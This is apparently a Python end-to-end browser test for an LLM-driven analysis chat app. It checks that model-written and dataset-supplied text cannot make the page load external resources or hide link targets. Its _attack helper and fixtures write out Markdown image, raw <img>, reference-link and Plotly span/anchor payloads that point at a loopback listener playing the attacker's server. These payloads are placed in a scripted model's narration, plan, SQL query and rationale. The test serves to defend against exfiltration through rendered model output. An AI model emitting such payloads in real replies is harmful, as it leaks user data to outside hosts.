"""Images, raw HTML and hidden links from model text and from data, in the chat in headless
Chromium (issue 18, breaks 2 and 3).

A scripted model writes Markdown images (inline and reference-style), `<img>` tags and links
whose words hide their target into its streamed narration (split across pieces), a plan goal,
a re-plan reason, a query and its final rationale; the question asked holds an image (as a
dataset's sample question would, sent by its button); the dataset's values hold the same and
Plotly tags (`<span style="fill:url(...)">`, `<a href>`), and reach the page through the
scripted walkthrough, the what-if ranking and the decision charts. A listener on loopback
stands where an attacker's server would: it must receive nothing, the page must hold no image
from anywhere but the app, every link must show its own target, and the text reads literally.
Nothing here relies on a Content-Security-Policy: the fix holds without one."""

from __future__ import annotations

import threading
from collections.abc import Iterator
from dataclasses import dataclass, field
from http.server import BaseHTTPRequestHandler, HTTPServer
from pathlib import Path
from typing import Any
from urllib.parse import unquote

import pytest

from planrag.engine import Reply, ScriptedModel, call
from tests._hostile import DATASET, QUESTION, hostile_demo
from tests.app.test_chat_e2e import (  # noqa: F401 - shots is a fixture
    SCRIPTS,
    _ask,
    _browser,
    _page,
    _scripted_chat,
    _shot,
    shots,
)

pytestmark = pytest.mark.e2e


@dataclass
class Listener:
    """An HTTP server on loopback that records every request it gets (an attacker's)."""

    port: int = 0
    paths: list[str] = field(default_factory=list)

    def url(self, what: str) -> str:
        return f"http://127.0.0.1:{self.port}/?q={what}"


@pytest.fixture()
def listener() -> Iterator[Listener]:
    heard = Listener()

    class Record(BaseHTTPRequestHandler):
        def do_GET(self) -> None:
            heard.paths.append(self.path)
            self.send_response(204)
            self.end_headers()

        def log_message(self, *args: Any) -> None:
            pass

    # One request at a time, in the order connections arrive: the sentinel request the
    # page sends last is handled after any request the page sent before it.
    server = HTTPServer(("127.0.0.1", 0), Record)
    heard.port = server.server_address[1]
    thread = threading.Thread(target=server.serve_forever, daemon=True)
    thread.start()
    yield heard
    server.shutdown()
    server.server_close()


def _attack(at: Listener, where: str) -> str:
    """Everything that would fetch from `at` or hide where a link goes, tagged `where`."""
    return (f"See ![x]({at.url(where + '-image')}) and <img src=\"{at.url(where + '-html')}\"> "
            f"and ![chart][r-{where}] or [the sales report]({at.url(where + '-hidden')}).\n\n"
            f"[r-{where}]: {at.url(where + '-ref')}")


def _pieces(text: str, size: int = 5) -> list[str]:
    """The text streamed in pieces that cut through every bit of its syntax."""
    return [text[i:i + size] for i in range(0, len(text), size)]


def _leak_script(at: Listener) -> ScriptedModel:
    goal = {"goal": _attack(at, "goal"), "source": "sql"}
    query = ("SELECT id, name, city FROM warehouse WHERE name <> '\n```\n"
             f"![q]({at.url('query-image')})\n```' ORDER BY id")
    return ScriptedModel([
        Reply(pieces=_pieces(_attack(at, "narration")), calls=[call("make_plan", steps=[goal])]),
        Reply(calls=[call("run_sql", query=query, step=0)]),
        Reply(calls=[call("revise_plan", reason=_attack(at, "reason"), steps=[
            goal, {"goal": "compare the lanes", "source": "sql"}])]),
        Reply(pieces=_pieces(_attack(at, "closing")), calls=[call(
            "final_answer", decision=4, rationale=_attack(at, "rationale"), query_ids=["q1"],
            parameters={"extra_kg": 200})]),
    ])


async def test_model_and_data_text_never_loads_anything(  # type: ignore[no-untyped-def]
    tmp_path: Path, listener: Listener, shots: Path  # noqa: F811
) -> None:
    from playwright.async_api import async_playwright, expect

    at = listener
    name = f"![w]({at.url('data-image')}) [East Point]({at.url('data-hidden')})"
    city = (f'<span style="fill:url({at.url("chart-span")})">Leipzig</span> '
            f'<a href="{at.url("chart-a")}">map</a> <img src="{at.url("data-html")}">')
    datasets = await hostile_demo(tmp_path, {4: (name, city)})
    SCRIPTS["leak"] = lambda tag: _leak_script(at)
    env = {"PLANRAG_DATASETS_DIR": str(datasets), "PLANRAG_DATASET": DATASET,
           "PLANRAG_CONSENT_TIMEOUT": "300"}
    try:
        async with _scripted_chat(tmp_path, env) as (url, models), async_playwright() as p:
            browser = await _browser(p)
            page = await _page(browser, url, height=1600)
            fetched: list[str] = []
            page.on("request", lambda request: fetched.append(request.url)
                    if f":{at.port}/" in request.url else None)
            asked = f"[leak] Which warehouse should grow? ![s]({at.url('question-image')})"
            await _ask(page, asked)
            approve = page.get_by_role("button", name="Approve")
            await approve.wait_for(timeout=60_000)
            prompt = page.locator(".step", has=approve).last
            await expect(prompt).to_contain_text(f"[the sales report]({at.url('reason-hidden')})")
            await approve.click()
            await page.get_by_text("The assistant's analysis reached the same decision"
                                   ).first.wait_for(timeout=60_000)
            await _ask(page, f"/scripted {QUESTION}")
            await page.get_by_text("The scripted walkthrough reached the same decision"
                                   ).first.wait_for(timeout=60_000)
            await _ask(page, "/whatif extra_kg=200")
            await page.get_by_text("What-if: Warehouse expansion (demo)").first.wait_for(
                timeout=60_000)
            charts = page.locator(".js-plotly-plot")
            await expect(charts).to_have_count(3, timeout=60_000)
            for chart in await charts.all():  # drawn: the label is a tick of the axis
                await expect(chart.locator(".ytick")).to_have_count(1, timeout=30_000)
            # The query (shown in its step, with a fence it cannot close early).
            goal = page.locator("[data-step-type=undefined]").first
            await goal.locator("button").first.click()
            query = page.get_by_text("Query 1 · SQL · 4 rows").first
            await query.click()
            await page.locator("pre", has_text="FROM warehouse WHERE name").first.wait_for(
                timeout=30_000)
            body = await page.inner_text("body")
            # The label as read: the lines the chart wraps a long label into, joined by spaces.
            tick = await charts.last.locator(".ytick text").evaluate(
                "t => [...t.querySelectorAll('tspan.line')].map(l => l.textContent).join(' ')"
                " || t.textContent")
            await _shot(page, charts.last, shots / "hostile-what-if-chart.png")

            # Every request the page would send for what it shows has been sent by now; the
            # page's last request is a sentinel, answered after any of those.
            await page.evaluate("""url => new Promise(done => {
                const probe = new Image();
                probe.onload = probe.onerror = () => done(null);
                probe.src = url;
            })""", at.url("sentinel"))
            images = await page.evaluate("() => [...document.images].map(i => i.src)")
            links = await page.evaluate("""() => [...document.querySelectorAll('.step a')]
                .filter(a => !a.closest('.modebar'))  // Plotly's own logo link
                .map(a => [a.getAttribute('href') || a.getAttribute('xlink:href') || '',
                           a.textContent.trim()])""")
            await browser.close()
        for model in models.values():
            model.assert_all_used()
    finally:
        SCRIPTS.pop("leak", None)

    assert [p for p in at.paths if "sentinel" not in p] == [], at.paths
    assert [u for u in fetched if "sentinel" not in u] == [], fetched
    assert [src for src in images if not src.startswith((url, "data:", "blob:"))] == []
    for href, text in links:  # a bare URL is a link: its words are its target
        if href.startswith(("http:", "https:", "//")) and not href.startswith(url):
            target = unquote(href).rstrip("/")
            assert text.rstrip("/") in (target, target.split("//", 1)[1]), (
                f"a link's words hide its target: {text!r} -> {href!r}")
    # What was written reads as written, wherever it was shown. The words of the reply that
    # answers are not shown (they would stand above the verdict; issue 19, point 3).
    assert at.url("closing-image") not in body
    for where in ("narration", "goal", "reason", "rationale"):
        assert f"![x]({at.url(where + '-image')})" in body, where
        assert f'<img src="{at.url(where + "-html")}">' in body, where
        assert f"[the sales report]({at.url(where + '-hidden')})" in body, where
        assert f"[r-{where}]: {at.url(where + '-ref')}" in body, where
    assert f"![q]({at.url('query-image')})" in body
    assert asked in body  # a question (a sample question's button sends its text) as typed
    assert body.count(f"Best decision: {name}, {city}") == 3, body  # answer, walkthrough, what-if
    assert tick == f"{name}, {city}"  # the chart's label, literally
    # The walkthrough's rationale quotes the data (as the model saw it: cut).
    assert f'(<span style="fill:url({at.url("chart-span")})">Leipzig</span> <a' in body
    assert (f"Why: The walkthrough's rule of thumb: ![w]({at.url('data-image')}) [East Point]("
            in body)
